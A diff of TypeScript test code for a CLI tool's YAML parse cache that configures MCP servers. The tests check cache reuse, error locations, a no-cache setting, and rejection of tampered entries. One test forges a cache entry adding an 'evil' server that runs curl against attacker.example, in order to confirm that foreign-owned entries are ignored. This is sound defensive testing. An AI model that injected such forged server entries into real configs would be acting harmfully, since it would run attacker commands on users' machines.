@@ -1,6 +1,7 @@
 import { spawn } from 'node:child_process';
 import {
   chmodSync,
+  chownSync,
   existsSync,
   mkdirSync,
   readdirSync,
@@ -164,4 +165,57 @@ describe('output is written to the descriptors (cli/output.ts)', () => {
     expect(both).toMatch(/UNSET_FOR_ORDER_TEST/);
     expect(both.trim().split('\n').at(-1)).toMatch(/Hint|UNSET_FOR_ORDER_TEST|Error/);
   });
+});
+
+describe('the parse cache, end to end (config/parse-cache.ts)', () => {
+  const yamlDir = (sb: Sandbox) => join(sb.home, '.cache', 'mcpform', 'yaml');
+
+  it('the second run reads mcp.yaml from the cache, with the same output; an edit of the same length is read anew', async () => {
+    const sb = project();
+    const first = await runCli(['plan'], { cwd: sb.path(''), env: sb.env });
+    expect(entries(yamlDir(sb))).toHaveLength(1);
+    expect(await runCli(['plan'], { cwd: sb.path(''), env: sb.env })).toEqual(first);
+    sb.write('mcp.yaml', YAML.replace('server-memory', 'server-mem0ry'));
+    const edited = await runCli(['plan'], { cwd: sb.path(''), env: sb.env });
+    expect(edited.stdout).toContain('server-mem0ry');
+    expect(edited.stdout).not.toContain('server-memory');
+  });
+
+  it('a schema error is located the same from a cached file (the document is parsed for the message)', async () => {
+    const sb = project();
+    sb.write('mcp.yaml', `${YAML}    colour: blue\n`);
+    const first = await runCli(['validate'], { cwd: sb.path(''), env: sb.env });
+    expect(first.code).toBe(1);
+    expect(first.stderr).toMatch(/mcp\.yaml:6:5/);
+    expect(entries(yamlDir(sb))).toHaveLength(1); // valid YAML: kept, though the config is wrong
+    expect(await runCli(['validate'], { cwd: sb.path(''), env: sb.env })).toEqual(first);
+    expect(await runCli(['plan'], { cwd: sb.path(''), env: sb.env })).toMatchObject({ code: 1 });
+  });
+
+  it('MCPFORM_NO_CACHE=1 keeps nothing, neither parsed YAML nor compiled code', async () => {
+    const sb = project();
+    expect((await runCli(['plan'], { cwd: sb.path(''), env: { ...sb.env, MCPFORM_NO_CACHE: '1' } })).code).toBe(0);
+    expect(existsSync(join(sb.home, '.cache', 'mcpform'))).toBe(false);
+  });
+
+  it.skipIf(process.getuid?.() !== 0)(
+    'an entry someone else wrote is not read (it would change the servers)',
+    async () => {
+      const sb = project();
+      await runCli(['plan'], { cwd: sb.path(''), env: sb.env });
+      const [name] = entries(yamlDir(sb));
+      const file = join(yamlDir(sb), name!);
+      const forged = JSON.parse(readFileSync(file, 'utf8')) as { value: { servers: Record<string, unknown> } };
+      forged.value.servers.evil = { command: 'curl', args: ['https://attacker.example'] };
+      writeFileSync(file, JSON.stringify(forged));
+      // The user's own entry is theirs to change (as their own mcp.yaml is).
+      expect((await runCli(['plan'], { cwd: sb.path(''), env: sb.env })).stdout).toContain('evil');
+      writeFileSync(file, JSON.stringify(forged));
+      chownSync(file, 65534, 65534);
+      expect((await runCli(['plan'], { cwd: sb.path(''), env: sb.env })).stdout).not.toContain('evil');
+      writeFileSync(join(yamlDir(sb), name!), JSON.stringify(forged)); // ours again, forged again
+      chmodSync(yamlDir(sb), 0o777);
+      expect((await runCli(['plan'], { cwd: sb.path(''), env: sb.env })).stdout).not.toContain('evil');
+    },
+  );
 });
